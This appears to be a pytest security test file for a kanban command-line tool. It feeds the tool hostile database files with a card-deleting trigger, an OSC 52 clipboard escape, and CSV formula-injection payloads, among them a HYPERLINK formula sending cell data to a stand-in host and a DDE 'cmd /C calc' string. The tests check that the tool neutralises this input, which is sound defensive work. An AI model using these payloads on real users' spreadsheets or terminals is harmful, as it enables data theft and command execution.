"""Nothing a user does loses the board: hostile database files, outputs aimed at the
database, copies that collide or leak, a kill at the first start, truncated reports, hostile
arguments and config, terminal escapes in titles, spreadsheet formulas in exports."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import sqlite3
import stat
import sys
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path

import pytest

from kanban_tui.domain.models import SCHEMA_VERSION
from kanban_tui.errors import DatabaseError
from kanban_tui.exporters import cards as card_export
from kanban_tui.services.session import open_board
from kanban_tui.storage import backup as backups
from kanban_tui.storage.database import inspect_file, open_database
from tests.process_helpers import REPO_ROOT, Result, in_process_cli, sha256, side_files

REPORTS = REPO_ROOT / "tests" / "fixtures" / "reports"
OSC52 = "\x1b]52;c;aGk=\x07"


@pytest.fixture
def cli(capsys: pytest.CaptureFixture[str]) -> Callable[..., Result]:
    """``seller-kanban --db DB *argv`` in-process: (exit code, stdout, stderr)."""
    return in_process_cli(capsys)


@pytest.fixture
def live(tmp_path: Path) -> Path:
    path = tmp_path / "shop" / "kanban.db"
    board = open_board(str(path), settings=None)
    for number in range(3):
        board.cards.add({"title": f"restock SKU-{number}"})
    board.close()
    return path


def titles(path: Path) -> set[str]:
    with sqlite3.connect(f"{path.resolve().as_uri()}?mode=ro", uri=True) as connection:
        return {row[0] for row in connection.execute("SELECT title FROM card")}


def one_line(err: str, *names: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in err
    for name in names:
        assert name in lines[0], (name, lines[0])
    return lines[0]


def copy_of(live: Path, tmp_path: Path, name: str) -> Path:
    path = tmp_path / name
    backups.backup_to(live, path)
    return path


def _execute(*statements: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        connection = sqlite3.connect(path)
        for statement in statements:
            connection.execute(statement)
        connection.commit()
        connection.close()

    return make


#: Files with our application id that this version must not take in.
HOSTILE: dict[str, tuple[Callable[[Path], None], str]] = {
    "trigger": (
        _execute(
            "CREATE TRIGGER trap AFTER INSERT ON card BEGIN "
            "DELETE FROM card WHERE id != new.id; END"
        ),
        "trigger 'trap'",
    ),
    "view": (_execute("CREATE VIEW peek AS SELECT title FROM card"), "view 'peek'"),
    "missing table": (_execute("DROP TABLE review_note"), "lacks the table 'review_note'"),
    "renamed column": (
        _execute("ALTER TABLE card RENAME COLUMN notes TO note"),
        "columns notes",
    ),
    "extra column": (_execute("ALTER TABLE card ADD COLUMN owner TEXT"), "unknown columns owner"),
    "extra table": (_execute("CREATE TABLE stash (x)"), "unknown table 'stash'"),
    "dropped index": (_execute("DROP INDEX ix_card_column_position"), "ix_card_column_position"),
    "user_version 0": (_execute("PRAGMA user_version = 0"), "schema version 0"),
    "user_version -1": (_execute("PRAGMA user_version = -1"), "schema version -1"),
}


# --------------------------------------------------------------------------- schema
def test_the_expected_schema_is_what_a_new_board_gets() -> None:
    """The schema check reads the models' metadata; it must equal what ``create_all``
    builds (tables, columns, keys, indexes), so a model change keeps the check right."""
    from kanban_tui.storage import schema

    assert schema.expected_catalog() == schema.built_catalog()


@pytest.mark.parametrize("kind", list(HOSTILE), ids=list(HOSTILE))
def test_restore_refuses_a_file_whose_schema_is_not_ours(
    kind: str, live: Path, tmp_path: Path, cli
) -> None:
    make, words = HOSTILE[kind]
    hostile = copy_of(live, tmp_path, "offered.db")
    make(hostile)
    before, offered = sha256(live), sha256(hostile)

    code, out, err = cli(live, "restore", str(hostile))
    assert code == 1 and out == ""
    one_line(err, str(hostile), words)
    assert sha256(live) == before and sha256(hostile) == offered
    assert not (live.parent / "backups").exists()

    # the board still works and keeps its cards: no trap came in
    code, _, err = cli(live, "add", "after the refused restore")
    assert code == 0, err
    assert {"restock SKU-0", "restock SKU-2", "after the refused restore"} <= titles(live)


@pytest.mark.parametrize("kind", ["trigger", "missing table", "user_version 0"])
def test_such_a_file_is_refused_on_open_and_doctor_says_what_to_run(
    kind: str, live: Path, cli
) -> None:
    make, words = HOSTILE[kind]
    make(live)
    before = sha256(live)
    code, out, err = cli(live, "list")
    assert code == 1 and out == ""
    one_line(err, str(live), words, "seller-kanban restore")
    assert sha256(live) == before

    code, out, err = cli(live, "doctor")
    assert code == 1, out
    report = dict(line.split(None, 1) for line in out.splitlines() if not line.startswith(" "))
    assert report["integrity"] == "ok"  # SQLite's check alone would pass it
    assert "no:" in report["opens"] and words in report["opens"]
    if kind != "user_version 0":
        assert words in report["schema"] and "seller-kanban restore" in report["schema"]


def test_an_older_file_is_upgraded_on_a_copy_first(
    live: Path, tmp_path: Path, cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A step that leaves a trap (or anything but this version's schema) is caught on a
    scratch copy: neither the offered file nor the live board changes."""
    from tests.revision_helpers import one_revision_ahead

    offered = copy_of(live, tmp_path, "older.db")
    cli(live, "add", "only in the live board")
    live_before, offered_before = sha256(live), sha256(offered)

    # since issue 12 the next schema change is an Alembic revision (was: a numbered step)
    trap = "CREATE TRIGGER trap AFTER INSERT ON card BEGIN DELETE FROM card; END"
    with one_revision_ahead(tmp_path / "trap", monkeypatch, trap):
        code, _, err = cli(live, "restore", str(offered))
    assert code == 1
    one_line(err, str(offered), "trigger 'trap'")
    assert sha256(offered) == offered_before
    # the live file is of the older version too here, so it is not opened: just unchanged
    assert sha256(live) == live_before

    with one_revision_ahead(tmp_path / "fine", monkeypatch, "SELECT 1"):
        safety = backups.restore_from(offered, live, None, datetime(2026, 11, 25, 9, 0))
    assert sha256(offered) == offered_before  # upgraded on a copy, not in place
    with sqlite3.connect(live) as connection:
        assert connection.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION + 1
    assert "only in the live board" not in titles(live)
    assert "only in the live board" in titles(safety)


# --------------------------------------------------------------------------- outputs
@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    path = tmp_path / "pipe"
    os.mkfifo(path)
    return path


OUTPUT_COMMANDS = {
    "export cards": ["export", "cards", "-o"],
    "export ics": ["export", "ics", "-o"],
    "report": ["report", "-o"],
    "backup": ["backup", "-o"],
}


@pytest.mark.parametrize("command", list(OUTPUT_COMMANDS))
@pytest.mark.parametrize("target", ["the live database", "a link to it", "another board", "FIFO"])
def test_no_command_writes_over_a_database_or_through_a_fifo(
    command: str, target: str, live: Path, tmp_path: Path, fifo: Path, cli
) -> None:
    if target == "the live database":
        path = live
    elif target == "a link to it":
        path = tmp_path / "shortcut.db"
        path.symlink_to(live)
    elif target == "another board":
        path = copy_of(live, tmp_path, "other-shop.db")
    else:
        path = fifo
    protected = live if target != "another board" else path
    before = sha256(protected) if target != "FIFO" else None

    code, out, err = cli(live, *OUTPUT_COMMANDS[command], str(path))
    assert code == 2 and out == ""
    one_line(err, str(path))
    if before is not None:
        assert sha256(protected) == before
    assert inspect_file(live) == SCHEMA_VERSION
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_backup_never_writes_over_an_existing_file(live: Path, tmp_path: Path, cli) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("supplier phone numbers\n", encoding="utf-8")
    code, out, err = cli(live, "backup", "-o", str(notes))
    assert code == 2 and out == ""
    one_line(err, str(notes), "already exists")
    assert notes.read_text(encoding="utf-8") == "supplier phone numbers\n"
    # an export may replace an earlier export of its own (a text file)
    old_export = tmp_path / "cards.csv"
    old_export.write_text("old", encoding="utf-8")
    code, out, err = cli(live, "export", "cards", "-o", str(old_export))
    assert code == 0, err
    assert "restock SKU-1" in old_export.read_text(encoding="utf-8-sig")


# --------------------------------------------------------------------------- copies
@pytest.fixture
def restore_umask() -> Iterator[None]:
    mask = os.umask(0o022)
    yield
    os.umask(mask)


def test_two_restores_in_one_second_keep_both_safety_copies(live: Path, tmp_path: Path) -> None:
    first = copy_of(live, tmp_path, "first.db")
    board = open_board(str(live), settings=None)
    board.cards.add({"title": "state before the first restore"})
    board.close()
    now = datetime(2026, 11, 25, 9, 30, 0)
    one = backups.restore_from(first, live, None, now)
    two = backups.restore_from(first, live, None, now)
    assert one != two and one.exists() and two.exists()
    assert "state before the first restore" in titles(one)
    assert "state before the first restore" not in titles(two)


def test_manual_backups_in_one_second_do_not_collide(live: Path, cli) -> None:
    now = datetime(2026, 11, 25, 9, 30, 0)
    made = [backups.backup_to(live, backups.copy_path(live, backups.MANUAL, now)) for _ in "ab"]
    assert len(set(made)) == 2
    code, out, _ = cli(live, "backup")
    code2, out2, _ = cli(live, "backup")
    assert code == code2 == 0 and out.strip() != out2.strip()
    assert Path(out.strip()).parent == live.parent / "backups"


def test_copies_keep_the_databases_private_mode(
    live: Path, tmp_path: Path, cli, restore_umask: None
) -> None:
    live.chmod(0o600)
    code, out, err = cli(live, "backup")
    assert code == 0, err
    manual = Path(out.strip())
    code, out, err = cli(live, "backup", "-o", str(tmp_path / "usb.db"))
    assert code == 0, err
    offered = copy_of(live, tmp_path, "offered.db")
    offered.chmod(0o644)
    code, out, err = cli(live, "restore", str(offered))
    assert code == 0, err
    daily = backups.daily_backup(live, None, 3, datetime(2026, 11, 25))
    assert daily is not None
    safety = next((live.parent / "backups").glob("kanban-before-restore-*.db"))
    for path in (manual, tmp_path / "usb.db", safety, daily):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(live.stat().st_mode) == 0o600  # a restore keeps the live mode too


def test_safety_copies_are_pruned_to_backups_kept(live: Path, tmp_path: Path, cli) -> None:
    conf = tmp_path / "config" / "config.toml"
    conf.parent.mkdir(parents=True, exist_ok=True)
    conf.write_text("backups_kept = 2\n", encoding="utf-8")
    offered = copy_of(live, tmp_path, "offered.db")
    for _ in range(4):
        code, _, err = cli(live, "restore", str(offered))
        assert code == 0, err
        code, _, err = cli(live, "backup")
        assert code == 0, err
    found = backups.copies(live)
    assert len(found[backups.BEFORE_RESTORE]) == 2
    assert len(found[backups.MANUAL]) == 2


def test_leftovers_of_killed_copies_are_swept_but_not_a_live_one(live: Path) -> None:
    folder = live.parent / "backups"
    folder.mkdir()
    dead = folder / ".kanban-manual-20261125-093000.db.staging-dead0001"
    dead.write_bytes(b"half a copy")
    legacy = folder / "kanban-2026-11-20.db.partial"
    legacy.write_bytes(b"half a copy")
    busy = folder / ".kanban-manual-20261125-093001.db.staging-busy0001"
    busy.write_bytes(b"being written")
    holder = os.open(busy, os.O_RDONLY)
    try:
        fcntl.flock(holder, fcntl.LOCK_EX)
        backups.daily_backup(live, None, 3, datetime(2026, 11, 25))
        assert not dead.exists() and not legacy.exists()
        assert busy.exists()
    finally:
        os.close(holder)


def test_daily_backup_goes_beside_the_open_database_and_doctor_lists_only_its_own(
    tmp_path: Path, cli
) -> None:
    shop_a, shop_b = tmp_path / "a.db", tmp_path / "b.db"
    for path in (shop_a, shop_b):
        open_board(str(path), settings=None).close()
    backups.daily_backup(shop_a, None, 3, datetime(2026, 11, 25))
    backups.daily_backup(shop_b, None, 3, datetime(2026, 11, 26))
    assert sorted(p.name for p in (tmp_path / "backups").iterdir()) == [
        "a-2026-11-25.db",
        "b-2026-11-26.db",
    ]
    code, out, err = cli(shop_a, "doctor", "--json")
    assert code == 0, err
    report = json.loads(out)
    assert report["backup_dir"] == str(tmp_path / "backups")
    assert report["backups"] == {"daily": ["a-2026-11-25.db"]}
    assert report["schema"] == "ok"


# --------------------------------------------------------------------------- first start
def test_a_leftover_empty_file_is_replaced(tmp_path: Path, cli) -> None:
    path = tmp_path / "kanban.db"
    path.touch()
    code, out, err = cli(path, "list")
    assert code == 0, err
    assert inspect_file(path) == SCHEMA_VERSION
    assert "Check account health" in out  # the plan was loaded into the new board


def test_creation_is_all_or_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A failure while the new database is built leaves no file behind (it is built
    aside and only renamed into place once whole)."""
    import kanban_tui.storage.database as database

    path = tmp_path / "kanban.db"

    def fail(*args, **kwargs) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(database.os, "fsync", fail)
    with pytest.raises(DatabaseError, match="cannot be created"):
        open_database(path)
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- imports
def test_a_truncated_report_row_is_refused_and_nothing_imported(tmp_path: Path, cli) -> None:
    report = tmp_path / "cut.csv"
    source = (REPORTS / "business_en_bom.csv").read_text(encoding="utf-8-sig")
    lines = source.splitlines()
    header_cells = next(csv.reader([lines[0]]))
    cut = next(csv.reader([lines[2]]))[: len(header_cells) - 1]
    buffer = io.StringIO()
    csv.writer(buffer).writerow(cut)
    report.write_text("\n".join([*lines[:2], buffer.getvalue().strip(), *lines[3:]]), "utf-8")
    db = tmp_path / "kanban.db"
    code, out, err = cli(db, "kpi", "import", str(report), "--marketplace", "US")
    assert code == 2 and out == ""
    assert "Row 3" in err and "cut off" in err and "Traceback" not in err
    with sqlite3.connect(db) as connection:
        assert connection.execute("SELECT count(*) FROM kpi_observation").fetchone()[0] == 0


@pytest.mark.parametrize("source", ["/dev/zero", "fifo", "folder"])
def test_kpi_import_reads_only_regular_files(source: str, tmp_path: Path, fifo: Path, cli) -> None:
    path = {"/dev/zero": Path("/dev/zero"), "fifo": fifo, "folder": tmp_path}[source]
    code, out, err = cli(tmp_path / "kanban.db", "kpi", "import", str(path))
    assert code == 2 and out == ""
    one_line(err, str(path))


def test_kpi_import_has_a_size_limit(tmp_path: Path, cli, monkeypatch) -> None:
    import kanban_tui.cli as cli_module

    monkeypatch.setattr(cli_module, "REPORT_MAX_BYTES", 100)
    code, out, err = cli(
        tmp_path / "kanban.db", "kpi", "import", str(REPORTS / "business_en_bom.csv")
    )
    assert code == 2 and out == ""
    one_line(err, "business_en_bom.csv", "larger than")


def test_restore_of_a_fifo_is_refused_at_once(live: Path, fifo: Path, cli) -> None:
    before = sha256(live)
    code, out, err = cli(live, "restore", str(fifo))
    assert code == 1 and out == ""
    one_line(err, str(fifo), "not a regular file")
    assert sha256(live) == before


# --------------------------------------------------------------------------- arguments
def _real(db: Path, *argv: str | bytes) -> tuple[int, str, str]:
    import subprocess

    from tests.process_helpers import subprocess_env

    done = subprocess.run(
        [sys.executable, "-m", "kanban_tui", "--db", db, *argv],
        capture_output=True, env=subprocess_env(), timeout=120,
    )  # fmt: skip
    return done.returncode, done.stdout.decode(errors="replace"), done.stderr.decode()


def test_arguments_that_are_not_utf8_get_one_line(live: Path) -> None:
    code, out, err = _real(live, "add", b"restock \xff\xfe")
    assert code == 2 and out == ""
    one_line(err, "title", "not UTF-8")
    code, out, err = _real(live, "add", "ok", "--notes", b"\xc3")
    assert code == 2
    one_line(err, "--notes", "not UTF-8")
    assert not any("restock" in t and "SKU" not in t for t in titles(live))


@pytest.mark.parametrize(
    "argv,field",
    [
        (["tick", "--now", "0001-01-01T00:00:00+00:00"], "--now"),
        (["tick", "--now", "9999-12-31T23:59:59+00:00"], "--now"),
        (["kpi", "add", "--date=9999-12-31", "--metric=sessions", "--value=5"], "--date"),
        (["kpi", "add", "--date=2026-11-01", "--metric=sessions", "--value=1e9999"], "--value"),
        (["kpi", "show", "--month", "9999-12"], "9999-12"),
        (["report", "--window", "4w:9999-12-31"], "4w:9999-12-31"),
        (["goal", "set", "1000", "--year", "9999"], "--year"),
        (["goal", "set", "1e999999"], "goal"),
        (["kpi", "targets", "--set", "acos=1e99999"], "acos=1e99999"),
    ],
)
def test_dates_and_numbers_out_of_range_name_the_field(
    argv: list[str], field: str, live: Path, cli
) -> None:
    before = sha256(live)
    code, out, err = cli(live, *argv)
    assert code == 2 and out == ""
    one_line(err, field)
    assert sha256(live) == before


def _config(text: str | bytes) -> Path:
    from kanban_tui import locations

    path = locations.config_file()
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "text,field",
    [
        (b"\x7fELF\x02\x01\x01\x00\xff\xfe\x00\x00", "not UTF-8"),
        ('default_marketplace = "XX"\n', "default_marketplace"),
        ("refresh_seconds = 1e-300\n", "refresh_seconds"),
        ("schedule_check_seconds = 0.000001\n", "schedule_check_seconds"),
        ("refresh_seconds = inf\n", "refresh_seconds"),
        ("fx_rates = { JPY = nan }\n", "fx_rates"),
        ("fx_rates = { JPY = -1.0 }\n", "fx_rates"),
        ('fx_base = "$$$"\n', "fx_base"),
    ],
)
def test_bad_config_values_name_the_field(text: str | bytes, field: str, live: Path, cli) -> None:
    path = _config(text)
    before = sha256(live)
    code, out, err = cli(live, "list")
    assert code == 2 and out == ""
    one_line(err, str(path), field)
    assert sha256(live) == before


# --------------------------------------------------------------------------- hostile values
def _poison(path: Path) -> None:
    """Values another program could write: text that is not UTF-8 (and a lone surrogate's
    bytes), a checklist that is not JSON or not a list, escapes in a template title."""
    _execute(
        "UPDATE card SET title = CAST(x'ff41eda080' AS TEXT), checklist = 'not json' "
        "WHERE title = 'restock SKU-0'",
        "UPDATE card SET checklist = '{\"x\": 1}', notes = CAST(x'eda080' AS TEXT) "
        "WHERE title = 'restock SKU-1'",
    )(path)


def test_hostile_values_inside_the_database_do_not_crash_the_cli(live: Path, cli) -> None:
    _poison(live)
    for argv in (["list"], ["list", "--json"], ["export", "cards"], ["report"], ["doctor"]):
        code, _, err = cli(live, *argv)
        assert code == 0, (argv, err)
        assert "Traceback" not in err
    cards = {c["id"]: c for c in json.loads(cli(live, "list", "--json")[1])}
    poisoned = [c for c in cards.values() if c["checklist"]]
    assert {item["text"] for c in poisoned for item in c["checklist"]} == {"not json", "{'x': 1}"}
    assert any(c["title"] == "\ufffdA\ufffd\ufffd\ufffd" for c in cards.values())


async def test_hostile_values_do_not_crash_the_board(live: Path, clock) -> None:
    from kanban_tui.ui.screens.card_detail import CardDetail
    from tests.ui_helpers import make_app

    _poison(live)
    app, board = make_app(live, clock)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        row = next(r for r in board.cards.list_cards() if r.checklist == "not json")
        app.push_screen(CardDetail(board.cards, row))
        await pilot.pause()
        await pilot.press("down", "space")
        await pilot.pause()
        # the stored text became an item that can be ticked (and is saved as JSON now)
        assert board.cards.card(row.id).as_json()["checklist"] == [
            {"text": "not json", "done": True}
        ]
    board.close()


# --------------------------------------------------------------------------- escaping
def test_templates_list_and_tick_never_send_terminal_escapes(tmp_path: Path, cli) -> None:
    db = tmp_path / "kanban.db"
    code, _, err = cli(db, "templates", "add", f"clip {OSC52}", "--rule", "daily")
    assert code == 0, err
    code, out, err = cli(db, "templates", "list")
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out and "clip ␛]52;c;aGk=␇" in out
    code, out, err = cli(db, "tick", "--now", "2030-01-02T12:00:00+00:00")
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out and "clip ␛]52;c;aGk=␇" in out
    # JSON stays exact
    code, out, _ = cli(db, "templates", "list", "--json")
    assert any(row["title"] == f"clip {OSC52}" for row in json.loads(out))


def test_cards_csv_writes_formulas_as_text_and_json_stays_exact(tmp_path: Path, cli) -> None:
    db = tmp_path / "kanban.db"
    hostile = [
        '=HYPERLINK("http://x.test?"&A1,"open")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
    ]
    for title in hostile:
        assert cli(db, "add", "--", title)[0] == 0
    code, out, err = cli(db, "export", "cards", "-o", str(tmp_path / "cards.csv"))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO((tmp_path / "cards.csv").read_text("utf-8-sig"))))
    shown = {row["title"] for row in rows}
    for title in hostile:
        assert "'" + title.strip() in shown or "'" + title in shown, title
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row.values()
    )
    code, out, _ = cli(db, "export", "cards", "--format", "json")
    exported = {card["title"] for card in json.loads(out)}
    assert set(hostile) <= exported
    # cells that start with a tab or CR (notes, categories) are covered the same way
    assert card_export._as_text("\t=1+1") == "'\t=1+1"
    assert card_export._as_text("\r=1+1") == "'\r=1+1"
    assert card_export._as_text("2026-11-25") == "2026-11-25"


def test_ics_text_carries_no_control_characters(tmp_path: Path, cli) -> None:
    db = tmp_path / "kanban.db"
    code, _, err = cli(db, "templates", "add", f"pay\x9b2J {OSC52}\x08", "--rule", "daily")
    assert code == 0, err
    code, _, err = cli(db, "export", "ics", "-o", str(tmp_path / "plan.ics"))
    assert code == 0, err
    data = (tmp_path / "plan.ics").read_bytes().decode("utf-8")
    body = data.replace("\r\n", "\n")
    assert not any(
        (ord(char) < 0x20 and char not in "\n\t") or 0x7F <= ord(char) <= 0x9F for char in body
    )
    assert "pay2J ]52\\;c\\;aGk=" in body


def test_restoring_a_good_backup_after_all_this_still_works(
    live: Path, tmp_path: Path, cli
) -> None:
    good = copy_of(live, tmp_path, "good.db")
    cli(live, "add", "after the backup")
    code, _, err = cli(live, "restore", str(good))
    assert code == 0, err
    assert "after the backup" not in titles(live)
    assert side_files(good) == []


def test_a_large_report_is_held_in_a_fraction_of_one_string_per_cell() -> None:
    """Rows of a big advertising report share their repeated cells (campaigns, dates,
    currency, zeros): a 2 MB file is held in less than 3× its size, where one string
    per cell took about 8× (so a 50 MB report stayed far below 1 GB)."""
    import tracemalloc

    from kanban_tui.importers import reports

    lines = (REPORTS / "sp_advertised_product_daily.csv").read_text("utf-8").splitlines()
    body, size, number = [lines[0]], 0, 0
    while size < 2_000_000:
        line = lines[1 + number % (len(lines) - 1)].replace("YM-01", f"SKU-{number}")
        body.append(line)
        size += len(line) + 1
        number += 1
    text = "\n".join(body)
    tracemalloc.start()
    try:
        records = reports._read_records(text, ",")
        held, _peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(records) == len(body)
    assert held < 3 * len(text)


@pytest.mark.parametrize(
    "argv,name",
    [
        (["done", "99999999999999999999"], "id"),
        (["move", "1", "--to", "weekly", "--position", "99999999999999999999"], "--position"),
        (["templates", "pause", "99999999999999999999"], "id"),
    ],
)
def test_absurd_ids_and_positions_are_usage_errors(
    argv: list[str], name: str, live: Path, cli
) -> None:
    before = sha256(live)
    code, out, err = cli(live, *argv)
    assert code == 2 and out == ""
    assert f"argument {name}" in err and "Traceback" not in err
    assert sha256(live) == before
